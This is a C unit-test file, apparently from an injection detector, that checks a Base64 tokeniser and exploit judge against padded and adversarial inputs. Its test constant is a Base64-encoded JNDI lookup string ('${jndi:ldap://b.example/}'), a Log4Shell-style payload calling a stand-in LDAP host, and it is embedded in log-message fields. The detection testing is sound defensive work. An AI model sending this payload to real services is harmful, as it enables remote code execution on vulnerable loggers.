/* Base64 values inside a text: each is found, and however many there are, each byte is read a few times only. */
#include "detect/token.h"

#include "base/limits.h"
#include "detect/verdict.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#define VALUE "JHtqbmRpOmxkYXA6Ly9iLmV4YW1wbGUvfQ" /* ${jndi:ldap://b.example/} */

static void finds_the_parts(void **state)
{
    static const struct {
        int line;
        const char *text;
        unsigned values; /* how often VALUE comes, and nothing else does */
    } rows[] = {
        {__LINE__, VALUE, 1},
        {__LINE__, "a " VALUE " b", 1},
        {__LINE__, "/" VALUE "/", 1},
        {__LINE__, "a-" VALUE, 1},
        {__LINE__, VALUE "+" VALUE, 2},
        {__LINE__, VALUE "+" VALUE " " VALUE, 3},
        {__LINE__, "sOYZ8Wmsa+" VALUE "+q83vASNFZ4mr", 1},
        {__LINE__, VALUE "/" VALUE "_" VALUE "/x", 1 + 3}, /* by '/' alone, by all four */
        {__LINE__, "%" VALUE "/" VALUE, 1},                /* what an escape may go on with is no value */
        {__LINE__, "${base64:" VALUE "}", 0},
        {__LINE__, "only/words/and/a/path/of/them", 0},
    };
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct ct_token_search s = {0};
        ct_str token;
        unsigned n = 0;
        for (; ct_token_next(ct_str_from(rows[i].text), &s, &token); n++)
            if (!ct_str_eq(token, CT_STR(VALUE))) fail_msg("line %d: found '%.*s'", rows[i].line, (int)token.n, (const char *)token.p);
        if (n != rows[i].values) fail_msg("line %d: %u values, not %u", rows[i].line, n, rows[i].values);
    }
}

/* A text of n bytes of one piece. */
static ct_str repeated(const char *piece, size_t n)
{
    size_t m = strlen(piece);
    unsigned char *p = malloc(n);
    assert_non_null(p);
    for (size_t i = 0; i < n; i++) p[i] = (unsigned char)piece[i % m];
    return (ct_str){p, n};
}

static const char *const poison[] = {
    "+JiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYmJiYm", /* values, and none of them whole with the next */
    "ICAgICAgICAgICAgICAgICA+",                  /* text over every '+', that holds nothing */
    "ICAgICAgICAgICAgICAgICA/ICAgICAgICAgICAgICAgICA+",
    "/+-_",
};

static void reads_each_byte_a_few_times(void **state)
{
    enum { SETS = 7 };
    (void)state;
    for (size_t i = 0; i < sizeof poison / sizeof *poison; i++) {
        ct_str text = repeated(poison[i], CT_WINDOW), token;
        struct ct_token_search s = {0};
        while (ct_token_next(text, &s, &token)) assert_true(token.n >= CT_BASE64_MIN);
        if (s.seen > SETS * (text.n + 1)) fail_msg("%s...: %zu bytes read of %zu", poison[i], s.seen, text.n);
        free((void *)(uintptr_t)text.p);
    }
}

/* Each place where a value may start would read a run of text to its end: what is text for long is passed. */
static void long_text_is_passed(void **state)
{
    (void)state;
    ct_str text = repeated(poison[1], 2 * CT_TOKEN_LOOK);
    assert_true(ct_prefilter(text));
    assert_false(ct_prefilter(ct_str_slice(text, 0, CT_TOKEN_LOOK / 2)));
    free((void *)(uintptr_t)text.p);
}

static void hides_nothing_behind_many(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof poison / sizeof *poison; i++) {
        char *text = NULL;
        ct_arena *arena;
        ct_str many = repeated(poison[i], CT_WINDOW / 2);
        assert_true(asprintf(&text, "%.*s+" VALUE, (int)many.n, (const char *)many.p) > 0);
        struct ct_field field = {CT_STR_INIT("message"), ct_str_from(text)};
        struct ct_verdict v;
        assert_int_equal(ct_arena_new(&ct_alloc_libc, CT_LINE_ARENA_MAX, &arena), CT_OK);
        assert_true(ct_prefilter(field.value));
        assert_int_equal(ct_judge(arena, &(struct ct_judge_opts){0}, &field, 1, &v), CT_OK);
        if (v.grade != CT_GRADE_EXPLOIT) fail_msg("behind %s...: %s", poison[i], ct_grade_name(v.grade));
        ct_arena_free(arena);
        free(text);
        free((void *)(uintptr_t)many.p);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds_the_parts),
        cmocka_unit_test(reads_each_byte_a_few_times),
        cmocka_unit_test(long_text_is_passed),
        cmocka_unit_test(hides_nothing_behind_many),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
